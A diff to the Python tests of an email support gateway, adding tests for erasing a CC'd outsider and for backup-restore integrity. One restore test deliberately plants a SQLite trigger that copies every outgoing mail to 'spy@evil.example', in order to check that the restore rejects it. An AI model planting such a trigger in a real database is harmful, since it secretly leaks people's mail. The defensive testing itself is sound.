@@ -4,6 +4,7 @@ the real pipeline, scheduler and SMTP sink, and the database file itself."""
 from __future__ import annotations
 
 import asyncio
+import os
 import sqlite3
 import subprocess
 import sys
@@ -140,6 +141,38 @@ async def test_erase_removes_a_persons_mail_and_data_and_keeps_the_record(
     assert after == before, "the promise record is unchanged"
 
 
+async def test_erasing_someone_only_in_cc_takes_them_off_and_leaves_the_customers_ticket(
+    h: Harness, make_config: Callable[..., Config], tmp_path: Path
+) -> None:
+    """An outsider who got themselves copied on Jane's ticket cannot have it erased: erasing
+    them takes them off it and empties what they wrote; Jane's mail and dates stay."""
+    from gateway import erase
+
+    await jane_and_bob(h)
+    copy = next(m for m in h.sink.messages if m["X-Support-Kind"] == "se-copy")
+    ack = next(m for m in h.sink.messages if m["X-Support-Kind"] == "ack")
+    await h.receive(
+        customer_mail(
+            "tom",
+            sender="tom@acme.example",
+            name="Tom Colleague",
+            body="Tom here: it fails on build-9 as well.",
+            in_reply_to=ack["Message-ID"],
+        )
+    )
+    assert "SUP-1001" in str(copy["Subject"])
+    config = make_config()
+    await h.store.stop()
+    gone = await erase.erase(config, h.clock, "Tom@Acme.example", vacuum=True)
+    assert gone["tickets"] == 0 and gone["taken off tickets"] == 1 and gone["people"] == 1
+    assert gone["mails in"] == 1, "the mail Tom wrote"
+    naming = tables_naming(config.database.target, "build-9")
+    assert "inbox_raw" not in naming, "the mail Tom wrote is emptied"
+    assert "participants" not in tables_naming(config.database.target, "tom@acme.example")
+    on_disk = file_bytes(config.database.target)
+    assert JANE in on_disk and b"error E42" in on_disk, "Jane's ticket is Jane's"
+
+
 def sams(db: str, now: datetime) -> dict[str, object]:
     """Sam's figures in the promise record (Jane's ticket is Sam's; Bob's is Dana's)."""
     rows = report.collect(db, now - timedelta(days=1), 60, now)
@@ -272,3 +305,57 @@ async def test_the_database_and_its_backups_are_readable_by_the_daemon_only(
             assert not (tmp_path / "elsewhere").exists()
     finally:
         os.umask(old)
+
+
+@pytest.mark.sqlite_only  # PostgreSQL is restored with pg_restore (README)
+async def test_a_restore_takes_only_our_schema_and_its_session_key_signs_nothing(
+    h: Harness, make_config: Callable[..., Config], clock: FakeClock, tmp_path: Path
+) -> None:
+    from gateway.store import Store
+    from gateway.store import web as web_store
+    from gateway.store.db import read_once
+
+    await h.receive(customer_mail(1))
+    good = tmp_path / "good.db"
+    assert (await asyncio.to_thread(backup.backup, make_config(), str(good)))[0] == 0
+    # Someone with the backup file adds a trigger that copies every later mail to a spy.
+    spied = tmp_path / "spied.db"
+    assert (await asyncio.to_thread(backup.backup, make_config(), str(spied)))[0] == 0
+    con = sqlite3.connect(spied)
+    con.execute(
+        "CREATE TRIGGER spy AFTER INSERT ON outbox BEGIN UPDATE outbox"
+        " SET rcpt = rcpt || ',spy@evil.example' WHERE id = NEW.id; END"
+    )
+    con.execute("CREATE INDEX extra ON tickets(subject)")
+    con.execute("DROP INDEX commitments_open_ticket")
+    con.commit()
+    con.close()
+
+    target = make_config(database={"path": str(tmp_path / "restored" / "gateway.db")})
+    status, text = await asyncio.to_thread(backup.restore, target, str(spied), False)
+    assert status == 1, text
+    assert "an extra trigger spy" in text and "an extra index extra" in text, text
+    assert "no index commitments_open_ticket" in text and "nothing was changed" in text
+    assert not await asyncio.to_thread(os.path.exists, target.database.path)
+
+    def key(path: Path | str) -> str:
+        con = sqlite3.connect(path)
+        try:
+            return str(con.execute("SELECT value FROM web_keys").fetchone()[0])
+        finally:
+            con.close()
+
+    async with Store(str(good)) as copy:
+        await copy.run(web_store.signing_key)  # the daemon's key, in the copy
+        await copy.run(
+            lambda db: web_store.set_password_hash(db, "lee@example.com", "x", clock.now())
+        )
+    key_before = key(good)
+    gen_before = read_once(str(good), lambda db: web_store.generation(db, "lee@example.com"))
+    status, text = await asyncio.to_thread(backup.restore, target, str(good), False)
+    assert status == 0 and "new web session key" in text, text
+    assert key(target.database.path) != key_before, "a cookie signed with the copy's key fails"
+    gen_after = read_once(
+        target.database.path, lambda db: web_store.generation(db, "lee@example.com")
+    )
+    assert gen_after is not None and gen_after != gen_before, "every session of the copy ended"
